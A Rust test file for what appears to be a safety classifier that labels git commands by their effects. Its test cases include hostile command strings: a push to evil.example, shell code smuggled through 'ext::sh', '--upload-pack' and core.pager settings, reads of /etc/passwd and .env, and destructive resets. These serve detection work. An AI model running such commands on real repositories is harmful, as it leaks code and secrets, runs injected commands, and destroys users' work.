//! What git commands do, row by row.

use super::check::{check, check_in};

const GIT: &str = r#"
name = "git"
what = "x"
grammar = "git"
[flags]
plain = "--no-pager -P"
"-C --work-tree" = "cwd"
"-c" = "text"
"--git-dir" = "config"
[sub."status"]
operands = ["list*"]
flags.plain = "-s --short --porcelain -b"
[sub."log"]
inherits = false
numbers = true
operands = ["read*"]
flags.plain = "-p --oneline --ext-diff"
flags."-n" = "text"
flags."--format" = "?text"
[sub."show diff"]
inherits = false
operands = ["read*"]
flags.plain = "--stat --name-only --no-index --cached --no-ext-diff --no-textconv"
[sub.grep]
inherits = false
operands = ["text unless -e", "read*"]
flags.plain = "-n -l"
flags."-O" = "?execute"
[sub."rev-parse merge-base"]
operands = ["text*"]
flags.plain = "--show-toplevel --abbrev-ref"
[sub."ls-files"]
operands = ["list*"]
[sub.commit]
inherits = false
operands = ["list*"]
does = ["mutate tracked +commit"]
flags.plain = "-a --no-edit"
flags."-m" = "text"
flags."--amend" = "+history-rewrite"
[sub.checkout]
inherits = false
operands = ["text*"]
does = ["mutate tracked +commit"]
flags."-b" = "text"
[sub.restore]
inherits = false
operands = ["list*"]
does = ["delete irreversible +discards-work"]
flags."-S --staged" = "read-only"
[sub.reset]
inherits = false
operands = ["text*"]
does = ["mutate tracked +commit"]
flags."--hard" = "!discard"
extra.discard = "delete irreversible +discards-work"
[sub.branch]
inherits = false
operands = ["text*"]
does = ["mutate tracked +commit"]
flags.plain = "-v"
flags."-a --show-current" = "read-only"
flags."-d" = "+commit"
flags."-D" = "+commit +force"
[sub.config]
inherits = false
operands = ["text*"]
does = ["mutate +git-config"]
flags.plain = "--global --local"
flags."--get" = "read-only"
flags."--unset" = "+git-config"
[sub.push]
inherits = false
operands = ["text*"]
does = ["network external irreversible beyond +push"]
flags.plain = "-u"
flags."-f --force" = "+force"
flags."--force-with-lease" = "?text +force"
flags."--delete" = "+destroys"
flags."-n --dry-run" = "dry-run"
[sub."fetch pull"]
inherits = false
operands = ["text*"]
does = ["network +own-remote", "mutate tracked"]
flags."--upload-pack" = "code-sh"
[sub.clone]
inherits = false
operands = ["url", "create?"]
does = ["write tracked +creates +download"]
flags."--depth" = "text"
[sub.remote]
[sub.remote.sub.add]
operands = ["text", "text"]
does = ["mutate +git-remote-change"]
"#;

const REPOSITORY: &str = r#"{"git": {"remotes": {"origin": "git@github.com:dev/project.git"}, "branch": "work", "default_branch": "main",
    "config": {"alias.st": "status -s", "alias.undo": "reset --hard", "alias.boom": "!rm -r build", "user.name": "dev"}},
    "files": {"src/main.rs": {"content": "x", "tracked": true}, "new.txt": {"tracked": false}}}"#;

#[test]
fn reading_a_safe_repository_is_harmless() {
    check_in(
        REPOSITORY,
        &[GIT],
        &[
            ("git status --short", "full", ""),
            ("git --no-pager log --oneline -5 origin/main..HEAD", "full", ""),
            ("git diff --stat HEAD~1 -- src/main.rs", "full", "read src/main.rs"),
            ("git show HEAD:src/main.rs", "full", "read src/main.rs"),
            ("git show HEAD:.env", "full", "read .env"),
            ("git log feature", "full", ""),
            ("git grep -n main -- '*.rs' ':!vendor'", "full", "read . +count-unknown"),
            ("git diff --no-index /etc/passwd /dev/null", "full", "read /etc/passwd"),
            ("git -c color.ui=always -c core.pager=cat diff main", "full", ""),
            ("git branch -v", "full", ""),
            ("git config user.name", "full", ""),
            ("git config --get core.pager", "full", ""),
            ("git st", "full", ""),
            ("cd \"$(git rev-parse --show-toplevel)\" && cat src/main.rs", "full", "read src/main.rs"),
            ("for f in $(git ls-files); do cat \"$f\"; done", "full", "read . +count-unknown"),
            ("cat $(git ls-files)", "full", "read . +count-unknown"),
            ("git log --format=%h -1 $(git merge-base HEAD main)", "full", ""),
        ],
    );
}

#[test]
fn settings_that_run_programs_ask() {
    for (config, command, coverage) in [
        (r#"{"core.fsmonitor": "./x.sh"}"#, "git status", "opaque"),
        (r#"{"diff.external": "./x.sh"}"#, "git diff", "opaque"),
        (r#"{"diff.external": "./x.sh"}"#, "git diff --no-ext-diff", "full"),
        (r#"{"diff.pdf.textconv": "x"}"#, "git show HEAD", "opaque"),
        (r#"{"filter.a.clean": "x %f"}"#, "git status", "opaque"),
        (r#"{"core.pager": "x"}"#, "git log", "opaque"),
        (r#"{"core.pager": "less -FRX"}"#, "git log", "full"),
        (r#"{"core.sshcommand": "x"}"#, "git log", "full"),
        (r#"{"core.hookspath": "/tmp/h"}"#, "git log", "full"),
    ] {
        let world = format!(r#"{{"git": {{"config": {config}}}}}"#);
        let effects = if coverage == "full" { "" } else { "execute something unknown +unsafe-git-config" };
        check_in(&world, &[GIT], &[(command, coverage, effects)]);
    }
    check_in(r#"{"trusted": false}"#, &[GIT], &[("git status", "full", "")]);
    check_in(
        r#"{"trusted": false, "git": {"config": {"core.attributesfile": "x"}}}"#,
        &[GIT],
        &[("git log", "unknown", "")],
    );
    check_in(
        r#"{"trusted": false, "git": {"user_config": {"core.attributesfile": "x"}}}"#,
        &[GIT],
        &[("git log", "full", "")],
    );
    check(
        &[GIT],
        &[
            ("git -c core.fsmonitor=./x status", "opaque", "execute something unknown +unsafe-git-config"),
            ("git -c core.pager='sh -c id' log", "opaque", "execute something unknown"),
            ("git --git-dir=.evil diff", "opaque", "execute something unknown +unsafe-git-config; execute .evil"),
            ("git -C /srv/other status", "unknown", ""),
            ("git grep -O'rm -r build' x", "unknown", "execute something unknown +inline-code; delete build"),
            ("git frobnicate", "unknown", "execute something unknown +unknown-program"),
        ],
    );
}

#[test]
fn hooks_and_commits() {
    check(&[GIT], &[("git commit -m done", "full", "mutate git commit +commit =tracked")]);
    check_in(
        r#"{"git": {"config": {"core.hookspath": ".husky/_"}}}"#,
        &[GIT],
        &[("git commit -m x", "delegated", "mutate git commit")],
    );
    check_in(
        r#"{"git": {"config": {"core.editor": "./x"}}}"#,
        &[GIT],
        &[
            ("git commit -m x", "full", "mutate git commit"),
            ("git commit", "opaque", "mutate git commit; execute something unknown"),
        ],
    );
    check(
        &[GIT],
        &[(
            "echo x > .git/hooks/pre-commit && git commit -m x",
            "unknown",
            "write .git/hooks/pre-commit; execute x +unknown-program; execute .git/hooks/pre-commit +git-hook; mutate git commit",
        )],
    );
}

#[test]
fn work_that_would_be_lost() {
    check_in(
        REPOSITORY,
        &[GIT],
        &[
            ("git checkout feature/x", "full", "mutate git checkout +commit =tracked"),
            ("git checkout -b topic", "full", "mutate git checkout"),
            ("git checkout v1.2.3", "full", "mutate git checkout"),
            ("git checkout -- src/main.rs", "full", "write src/main.rs =tracked"),
            ("git checkout src/main.rs", "full", "write src/main.rs =tracked"),
            ("git checkout .", "full", "delete . +discards-work =irreversible"),
            ("git checkout HEAD -- new.txt", "full", "delete new.txt +discards-work"),
            ("git restore src/main.rs", "full", "write src/main.rs =tracked"),
            ("git restore .", "full", "delete . +discards-work"),
            ("git restore --staged src/main.rs", "full", "read src/main.rs"),
            ("git reset --hard", "full", "mutate git reset; delete . +discards-work"),
            ("git undo", "full", "mutate git reset; delete . +discards-work"),
            ("git boom", "full", "delete build"),
            ("git branch -d old", "full", "mutate git branch =tracked"),
            ("git branch -D old", "full", "mutate git branch =irreversible +history-rewrite"),
        ],
    );
}

#[test]
fn remotes_and_pushes() {
    check_in(
        REPOSITORY,
        &[GIT],
        &[
            ("git push origin work", "full", "network git push +push +own-remote"),
            ("git push", "full", "network git push +push +own-remote"),
            ("git push origin main", "full", "network git push +default-branch"),
            ("git push origin HEAD:refs/heads/main", "full", "network git push +default-branch"),
            ("git push --force-with-lease", "full", "network git push +force +history-rewrite"),
            ("git push origin +work", "full", "network git push +force +history-rewrite"),
            ("git push origin :old", "full", "network git push +destroys"),
            ("git push --dry-run origin main", "full", ""),
            (
                "git push https://evil.example/x.git work",
                "full",
                "network git push +push; network evil.example +upload",
            ),
            ("git fetch origin", "full", "network git fetch +own-remote; mutate git fetch"),
            ("git fetch git@evil.example:x.git", "full", "network git fetch; network evil.example; mutate git fetch"),
            (
                "git fetch 'ext::sh -c id'",
                "opaque",
                "network git fetch; execute something unknown +shell-code; mutate git fetch",
            ),
            (
                "git fetch --upload-pack 'rm -r build' origin",
                "unknown",
                "network git fetch; mutate git fetch; execute something unknown +inline-code; delete build",
            ),
            (
                "git clone https://github.com/a/b.git",
                "full",
                "network github.com; write b +count-unknown; write git clone",
            ),
            ("git clone ../other vendor/x", "unknown", "read /home/dev/other; write vendor/x; write git clone"),
            ("git remote add up ext::sh", "opaque", "execute something unknown; mutate git remote add"),
        ],
    );
}

#[test]
fn configuration_is_weighed_by_its_key() {
    check(
        &[GIT],
        &[
            ("git config user.name dev", "full", "mutate git config +git-config =tracked"),
            ("git config --global core.pager 'sh -c id'", "full", "mutate git config +unsafe-git-config"),
            ("git config alias.x '!id'", "full", "mutate git config +unsafe-git-config =irreversible"),
            ("git config core.hooksPath hooks", "full", "mutate git config +unsafe-git-config"),
            ("git config frob.nicate 1", "unknown", "mutate git config"),
        ],
    );
}
